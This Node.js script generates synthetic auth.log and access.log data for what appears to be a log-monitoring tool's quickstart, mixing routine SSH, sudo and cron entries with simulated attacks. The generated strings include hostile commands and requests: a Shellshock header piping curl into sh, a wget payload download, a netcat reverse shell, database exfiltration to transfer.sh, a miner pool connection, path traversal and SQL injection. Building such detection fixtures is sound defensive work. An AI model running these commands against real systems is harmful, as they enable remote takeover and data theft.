#!/usr/bin/env node
// Writes realistic auth.log / syslog lines for the quickstart: normal sshd, sudo, cron and
// kernel traffic with attacks mixed in — an SSH brute force that ends in a successful login,
// password spraying, a port scan followed by exploitation attempts, sudo abuse, a download-
// and-execute, a crypto-miner and a large upload. Deterministic for a given --seed.
//
//   node scripts/generate-sample-logs.mjs [--out examples/sample-logs] [--seed 42] [--follow]
//
// --follow only appends: a fresh burst every few seconds, so `npm start` shows events flowing.
import { mkdirSync, writeFileSync, appendFileSync, renameSync } from 'node:fs';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const { values } = parseArgs({
  options: {
    out: { type: 'string', default: join(root, 'examples/sample-logs') },
    seed: { type: 'string', default: '42' },
    follow: { type: 'boolean', default: false },
    'interval-ms': { type: 'string', default: '3000' },
  },
});
const out = resolve(values.out);
mkdirSync(out, { recursive: true });

let state = Number(values.seed) >>> 0 || 42;
const rand = () => (state = (state * 1664525 + 1013904223) >>> 0) / 2 ** 32;
const pick = (a) => a[Math.floor(rand() * a.length)];
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n) => String(n).padStart(2, '0');
// Local wall time, as syslogd writes it: the log-file source reads BSD times in the host's zone
// (its syslog_timezone option), so the sample's times agree with access.log's offsets anywhere.
const stamp = (d) => `${MON[d.getMonth()]} ${String(d.getDate()).padStart(2, ' ')} ${two(d.getHours())}:${two(d.getMinutes())}:${two(d.getSeconds())}`;
const HOST = 'web-01';
const users = ['alice', 'bob', 'carol', 'deploy', 'backup'];
const spray = ['admin', 'test', 'oracle', 'postgres', 'ubuntu', 'guest', 'user', 'ftp', 'git', 'support', 'pi', 'jenkins'];
const office = ['10.20.1.15', '10.20.1.22', '10.20.3.40'];
let pid = 20000;

function normal(t) {
  const u = pick(users);
  const ip = pick(office);
  const p = pid++;
  return pick([
    `${stamp(t)} ${HOST} sshd[${p}]: Accepted publickey for ${u} from ${ip} port ${40000 + Math.floor(rand() * 20000)} ssh2: RSA SHA256:Zk4t9c0zQ0mH`,
    `${stamp(t)} ${HOST} sshd[${p}]: pam_unix(sshd:session): session opened for user ${u} by (uid=0)`,
    `${stamp(t)} ${HOST} sshd[${p}]: Received disconnect from ${ip} port ${40000 + Math.floor(rand() * 20000)}:11: disconnected by user`,
    `${stamp(t)} ${HOST} CRON[${p}]: pam_unix(cron:session): session opened for user root by (uid=0)`,
    `${stamp(t)} ${HOST} sudo:    ${u} : TTY=pts/0 ; PWD=/home/${u} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`,
    `${stamp(t)} ${HOST} systemd[1]: Started Session ${Math.floor(rand() * 900)} of user ${u}.`,
    `${stamp(t)} ${HOST} kernel: [${(rand() * 90000).toFixed(6)}] eth0: renamed from veth${Math.floor(rand() * 9999)}`,
  ]);
}

function bruteForce(t0, ip, n, success) {
  const lines = [];
  let t = t0;
  for (let i = 0; i < n; i++) {
    t = new Date(t.getTime() + 1000 + Math.floor(rand() * 3000));
    const p = pid++;
    const port = 30000 + Math.floor(rand() * 30000);
    lines.push([
      t,
      rand() < 0.7
        ? `${stamp(t)} ${HOST} sshd[${p}]: Failed password for root from ${ip} port ${port} ssh2`
        : `${stamp(t)} ${HOST} sshd[${p}]: Failed password for invalid user admin from ${ip} port ${port} ssh2`,
    ]);
  }
  if (success) {
    t = new Date(t.getTime() + 2000);
    lines.push([t, `${stamp(t)} ${HOST} sshd[${pid++}]: Accepted password for root from ${ip} port ${30000 + Math.floor(rand() * 30000)} ssh2`]);
  }
  return lines;
}

function spraying(t0, ip) {
  let t = t0;
  return spray.map((u) => {
    t = new Date(t.getTime() + 4000 + Math.floor(rand() * 4000));
    return [t, `${stamp(t)} ${HOST} sshd[${pid++}]: Invalid user ${u} from ${ip} port ${30000 + Math.floor(rand() * 30000)}`];
  });
}

function scanThenExploit(t0, ip) {
  const lines = [];
  let t = t0;
  for (let i = 0; i < 8; i++) {
    t = new Date(t.getTime() + 300);
    lines.push([
      t,
      `${stamp(t)} ${HOST} kernel: [UFW BLOCK] IN=eth0 OUT= SRC=${ip} DST=203.0.113.10 PROTO=TCP SPT=${40000 + i} DPT=${[21, 22, 23, 25, 80, 443, 3306, 8080][i]} SYN`,
    ]);
  }
  t = new Date(t.getTime() + 1000);
  lines.push([t, `${stamp(t)} ${HOST} sshd[${pid++}]: Did not receive identification string from ${ip} port ${40000 + Math.floor(rand() * 1000)}`]);
  t = new Date(t.getTime() + 20000);
  lines.push([t, `${stamp(t)} ${HOST} sshd[${pid++}]: Connection closed by ${ip} port ${40000 + Math.floor(rand() * 1000)} [preauth]`]);
  return lines;
}

function webAccess(t0, ip) {
  const fmt = (t) => {
    const d = t.toUTCString().split(' ');
    return `${d[1]}/${d[2]}/${d[3]}:${d[4]} +0000`;
  };
  let t = t0;
  const reqs = [
    'GET /index.html HTTP/1.1" 200 5120',
    'GET /../../../../etc/passwd HTTP/1.1" 400 0',
    'GET /search?q=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 500 0',
    'GET /cgi-bin/status HTTP/1.1" 200 12',
    'POST /wp-login.php HTTP/1.1" 200 1024',
  ];
  return reqs.map((r) => {
    t = new Date(t.getTime() + 1500);
    return [
      t,
      `${ip} - - [${fmt(t)}] "${r} "-" "${r.includes('cgi-bin') ? '() { :; }; /bin/bash -c \\"curl http://198.51.100.7/x.sh | sh\\"' : 'Mozilla/5.0 (X11; Linux x86_64)'}"`,
    ];
  });
}

function hostCompromise(t0, user) {
  let t = t0;
  const steps = [
    `sudo:    ${user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash`,
    `sudo:    ${user} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/su -`,
    `su[${pid++}]: FAILED SU (to root) ${user} on pts/1`,
    `audit: type=EXECVE msg=audit(1700000000.123:901): argc=3 a0="wget" a1="http://198.51.100.7/payload.sh" a2="-O/tmp/.x"`,
    `audit: type=EXECVE msg=audit(1700000001.456:902): argc=3 a0="chmod" a1="+x" a2="/tmp/.x"`,
    `bash[${pid++}]: HISTORY: PID=${pid} UID=0 curl -s http://198.51.100.7/install.sh | bash`,
    `bash[${pid++}]: HISTORY: PID=${pid} UID=0 nc -e /bin/sh 198.51.100.7 4444`,
    `kernel: [${(rand() * 90000).toFixed(6)}] xmrig[${pid++}]: stratum+tcp://pool.minexmr.com:4444 new job`,
    `bash[${pid++}]: HISTORY: PID=${pid} UID=0 tar czf - /var/lib/mysql | curl -T - https://transfer.sh/db.tgz`,
    `bash[${pid++}]: HISTORY: PID=${pid} UID=0 scp -r /home/backup/exports root@198.51.100.9:/data`,
  ];
  return steps.map((s) => {
    t = new Date(t.getTime() + 5000 + Math.floor(rand() * 5000));
    return [t, `${stamp(t)} ${HOST} ${s}`];
  });
}

function burst(base) {
  const lines = [];
  let t = base;
  for (let i = 0; i < 120; i++) {
    t = new Date(t.getTime() + 2000 + Math.floor(rand() * 8000));
    lines.push([t, normal(t)]);
  }
  const attackers = ['203.0.113.50', '198.51.100.23', '192.0.2.77'];
  lines.push(...bruteForce(new Date(base.getTime() + 60_000), attackers[0], 40, true));
  lines.push(...bruteForce(new Date(base.getTime() + 200_000), attackers[1], 12, false));
  lines.push(...spraying(new Date(base.getTime() + 300_000), attackers[2]));
  lines.push(...scanThenExploit(new Date(base.getTime() + 400_000), '198.51.100.66'));
  lines.push(...hostCompromise(new Date(base.getTime() + 500_000), 'deploy'));
  return lines.sort((a, b) => a[0] - b[0]);
}

// Written to a temp file and renamed: a collector that read an earlier run sees a new inode
// (a rotation) and starts the new file from its beginning.
function replace(path, lines) {
  writeFileSync(`${path}.tmp`, lines.map(([, l]) => l).join('\n') + '\n');
  renameSync(`${path}.tmp`, path);
}

if (!values.follow) {
  const base = new Date(Date.now() - 60 * 60 * 1000);
  const auth = burst(base);
  replace(join(out, 'auth.log'), auth);
  const web = webAccess(new Date(base.getTime() + 420_000), '198.51.100.66');
  replace(join(out, 'access.log'), web);
  process.stdout.write(`wrote ${auth.length} lines to ${join(out, 'auth.log')} and ${web.length} to ${join(out, 'access.log')}\n`);
}

if (values.follow) {
  const every = Number(values['interval-ms']);
  let n = 0;
  const tick = () => {
    const now = new Date();
    const lines =
      n % 5 === 4
        ? bruteForce(now, `203.0.113.${100 + (n % 50)}`, 8, n % 10 === 9)
        : [
            [now, normal(now)],
            [now, normal(now)],
          ];
    appendFileSync(join(out, 'auth.log'), lines.map(([, l]) => l).join('\n') + '\n');
    n++;
  };
  const timer = setInterval(tick, every);
  const stop = () => {
    clearInterval(timer);
    process.exit(0);
  };
  process.on('SIGINT', stop);
  process.on('SIGTERM', stop);
}
